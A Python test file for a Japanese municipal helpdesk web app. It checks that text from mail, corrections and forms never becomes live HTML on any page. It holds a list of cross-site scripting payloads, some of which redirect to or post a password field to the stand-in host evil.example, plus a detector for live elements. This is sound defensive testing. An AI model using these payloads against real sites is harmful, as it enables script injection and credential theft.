"""Text from outside stays text on every page, whatever it looks like (FAULTS S6)."""

from __future__ import annotations

import base64
import re
from urllib.parse import quote

from lxml import html

from tests.console.screens import Screen, form
from uketsuke.queue.correspondence import status_token

_CALL = "alert(1)"
_CLOSERS = ("", '">', "'>", "</textarea>", "</title>", "</option></select>", "-->", "</style>", "</script>")
_ELEMENTS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt\f>{_CALL}</sCrIpT>",
    f"<img src=x onerror={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<iframe srcdoc='<script>{_CALL}</script>'>",
)
PAYLOADS = (
    *(closer + element for closer in _CLOSERS for element in _ELEMENTS),
    f'" autofocus onfocus="{_CALL}',
    f"' onmouseover='{_CALL}",
    f"` onclick=`{_CALL}",
    f"javascript:{_CALL}",
    f"JaVa\tScRiPt:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<button formaction=javascript:{_CALL}>x</button>",
    f"<object data=javascript:{_CALL}>",
    f"<math><mi xlink:href=javascript:{_CALL}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password>",
    "<div hx-get=/queue hx-trigger=load hx-on:click=x>",
    "<div data-gone-after=0 data-key=n>",
    "{{ 7 * 7 }}{% for x in (1,) %}x{% endfor %}",
    f"\\u003cscript\\u003e{_CALL}",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;&#60;script&#62;",
    f"<!--<img src='--><img src=x onerror={_CALL}//'>",
)
_HANDLER = re.compile(r"^(on|hx-on|style$|srcdoc$)", re.IGNORECASE)
_ADDRESS = ("href", "src", "action", "formaction", "data", "xlink:href")


def alive(page: html.HtmlElement) -> list[str]:
    """What would run, load from elsewhere or send elsewhere, beyond our own scripts and styles."""
    found = []
    for element in page.iter("*"):
        for name, value in element.attrib.items():
            address = str(value).strip().lower()
            if _HANDLER.match(name) or (name in _ADDRESS and not re.match(r"(/(?!/)|#|mailto:|$)", address)):
                found.append(f"{element.tag} {name}={value}")
    strange = page.xpath(
        "//script[not(@src)] | //iframe | //object | //base | //math | //img | //meta[@http-equiv] | //style"
    )
    return found + [f"<{element.tag}>" for element in strange]


def hostile_mail(text: str, number: int) -> bytes:
    """The text in subject, display name, body, HTML part and file name."""

    def word(plain: str) -> str:
        return f"=?utf-8?b?{base64.b64encode(plain.encode()).decode()}?="

    lines = (
        "申請区分：返却",
        *(f"{label}：{text}" for label in ("所属", "氏名", "管理番号", "返却希望日", "備考")),
    )
    body = base64.b64encode("\n".join((*lines, text)).encode()).decode()
    return "\r\n".join(
        (
            f"From: {word(text)} <takahashi-t@city.example.lg.jp>",
            "To: it-helpdesk@city.example.lg.jp",
            f"Subject: {word('LTE接続端子の返却 ' + text)}",
            f"Message-ID: <hostile-{number}@mail.city.example.lg.jp>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="b"',
            "",
            "--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n",
            body,
            "--b\r\nContent-Type: application/octet-stream",
            f'Content-Disposition: attachment; filename="{word(text)}"\r\n\r\nx',
            "--b--\r\n",
        )
    ).encode()


def test_no_text_of_a_mail_a_correction_or_a_note_becomes_part_of_a_page(screen: Screen) -> None:
    assert len(PAYLOADS) >= 60
    for number in range(0, len(PAYLOADS), 5):
        some = PAYLOADS[number : number + 5]
        text = " ".join(some)
        receipt = screen.desk.receive(hostile_mail(text, number)).number
        screen.desk.work()
        address = f"/requests/{receipt}"
        screen.send(
            form(screen.get(address), "/correct"),
            "保存して再チェック",
            f__requester_name=text,
            f__remarks=text,
        )
        typed = dict.fromkeys(("who", "name", "section", "phone", "what", "n.remarks"), text)
        typed |= _hidden(screen.get("/requests/new"))
        refused = screen.client.post("/requests/new", data={**typed, "started": text})
        assert refused.status_code == 422
        taken = screen.client.post("/requests/new", data=typed, follow_redirects=True)
        assert not alive(html.fromstring(refused.text)), some
        assert not alive(html.fromstring(taken.text)), some
        for page in (
            "/queue",
            "/requests",
            address,
            *(f"{address}/decide/{decision}" for decision in ("ask", "return", "hold", "withdraw")),
            f"/s/{status_token(screen.desk.app, receipt)}",
            f"/requests?q={quote(text)}",
            f"/ledgers/lte-ledger?q={quote(text)}&on={quote(text)}",
        ):
            assert not alive(screen.get(page)), (page, some)


def test_the_look_for_live_elements_notices_one() -> None:
    page = html.fromstring("<p><a href='javascript:x'>x</a><img src=/x onerror=x><script>x</script></p>")
    assert len(alive(page)) >= 3


def _hidden(page: html.HtmlElement) -> dict[str, str]:
    return {one.get("name"): one.get("value") or "" for one in page.xpath("//form//input[@type='hidden']")}
